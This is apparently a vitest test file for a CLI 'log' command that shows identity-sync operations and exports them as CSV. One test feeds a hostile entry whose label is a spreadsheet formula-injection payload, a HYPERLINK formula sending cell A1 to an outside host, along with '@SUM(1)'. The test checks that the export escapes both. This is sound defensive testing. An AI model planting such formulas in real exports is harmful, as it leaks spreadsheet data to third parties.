import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { testVerbs } from '../server/api/testing-verbs.ts';
import type { OutcomeQuery } from '../sync/ledger.ts';
import type { LogEntry } from '../sync/log-entry.ts';
import type { Verbs } from '../sync/verbs.ts';
import { type CommandLine, commandLine } from './testing.ts';

const line = commandLine();
const { there } = line;
const here: CommandLine['here'] = (parameters, verbs, watched) =>
  line.here(parameters, verbs, { now: new Date(), ...watched });

const [ADA] = await Array.fromAsync(testVerbs({}).entries({ limit: 1 }));
if (ADA === undefined) throw new Error('the tenant for tests has an empty log');

function entries(...all: readonly LogEntry[]): Partial<Verbs> {
  return {
    entries: async function* () {
      yield* all;
    },
  };
}

describe('lockstep log', () => {
  it.each([
    'log',
    'log ramp --failed',
    'log --json --steps',
    'log --csv',
    'log --csv changes',
    'log --operation k7.3',
    'log --operation k7.3 --json',
  ])('%s says the same here and by a server', async (line) => {
    const parameters = line.split(' ');
    const said = await here(parameters);
    expect([said.exit, said.stderr]).toEqual([0, '']);
    expect(said.stdout).not.toBe('');
    expect(await there(parameters)).toEqual(said);
  });

  it('names each entry, and what can be done where something went wrong', async () => {
    const { stdout } = await here(['log']);
    expect(stdout).toMatch(/^k7\.3 +2026-03-01 10:00:00 {2}ramp {2}~ ada@contoso\.com/);
  });

  it('shows one operation step by step', async () => {
    const { stdout } = await here(['log', '--operation', 'k7.3']);
    const headings = stdout.split('\n').filter((line) => /^\d /.test(line));
    expect(headings).toEqual(['1 Import', '2 Scope', '3 Match', '4 Plan', '5 Write']);
    expect(stdout).toContain('entra user e-ada, read until 2026-03-01T10:00:00.000Z');
    expect(stdout).toContain('account u1, known before');
    expect(stdout).toContain('Trim([privatePhone])');
    expect(stdout).toContain('1. PATCH /Users/42  answered 400');
    expect(stdout).toContain('mend it');
  });

  it('refuses an entry that is not there, and one of which there are several', async () => {
    const none = await here(['log', '--operation', 'k9.1'], entries());
    expect([none.exit, none.stderr]).toEqual([1, expect.stringContaining('no-such-entry')]);
    const other = { ...ADA, entry: 'k7b.3' };
    const several = await here(['log', '--operation', 'k7.3'], entries(ADA, other));
    expect([several.exit, several.stderr]).toEqual([2, expect.stringContaining('k7b.3 (ramp)')]);
  });

  it('is asked by person, system, run, code, result and time', async () => {
    const asked: OutcomeQuery[] = [];
    const log: Verbs['log'] = (query) => {
      asked.push(query);
      return testVerbs({}).log(query);
    };
    const parameters = ['log', '--system', 'ramp', '--person', 'ada', '--run', 'r', '--code', 'c'];
    const times = ['--skipped', '--from', '2026-03-01', '--to', '2026-03-02', '-n', '7'];
    await here([...parameters, ...times], { log });
    await here(['log', '--json', '--since', '2026-03-01T08:00Z'], { log });
    expect(asked).toEqual([
      {
        limit: 7,
        target: 'ramp',
        identity: 'i-ada',
        run: 'r',
        code: 'c',
        type: 'skipped',
        since: new Date('2026-03-01T00:00:00Z'),
        until: new Date('2026-03-03T00:00:00Z'),
      },
      { limit: Number.MAX_SAFE_INTEGER, since: new Date('2026-03-01T08:00:00Z') },
    ]);
  });
});

describe('the log as CSV', () => {
  it('has a line for each operation, and one for each attribute that changed', async () => {
    const [operation] = parse((await here(['log', '--csv'])).stdout, { columns: true });
    expect(operation).toMatchObject({
      entry: 'k7.3',
      person: 'ada@contoso.com',
      result: 'failed',
      code: 'invalid',
      remedy: 'mend it',
      attempts: '1',
    });
    const [change] = parse((await here(['log', '--csv', 'changes'])).stdout, { columns: true });
    expect(change).toMatchObject({
      entry: 'k7.3',
      path: 'urn:ramp:User:phone',
      rule: 'Trim([privatePhone])',
      origin: 'hr',
    });
  });

  it('holds no formula, whatever people are called', async () => {
    const label = '=HYPERLINK("https://fabrikam.com/?"&A1,"Ada")';
    const hostile: LogEntry = {
      ...ADA,
      operation: { ...ADA.operation, label },
      steps: {
        ...ADA.steps,
        plan: {
          ...ADA.steps.plan,
          changes: [{ type: 'mapping', path: 'title', after: '@SUM(1)', inputs: {} }],
        },
      },
    };
    for (const table of ['operations', 'changes']) {
      const { stdout } = await here(['log', '--csv', table], entries(hostile));
      const cells = parse(stdout).flat();
      expect(cells).toContain(`'${label}`);
      expect(cells.filter((cell) => /^[=+@\t\r]/.test(cell))).toEqual([]);
    }
  });

  it('begins so that spreadsheets see its encoding, where that is asked for', async () => {
    expect((await here(['log', '--csv', '--bom'])).stdout).toMatch(/^\uFEFFtime,entry,/);
    expect((await here(['log', '--csv'])).stdout).toMatch(/^time,entry,/);
  });

  it('is written a line at a time', async () => {
    const left: number[] = [];
    let made = 0;
    const many: Partial<Verbs> = {
      entries: async function* () {
        for (; made < 1000; made++) yield ADA;
      },
    };
    let lines = 0;
    await here(['log', '--csv'], many, {
      wrote: () => {
        lines++;
        left.push(made - lines);
      },
    });
    expect([lines, Math.max(...left)]).toEqual([1001, -1]);
  });
});
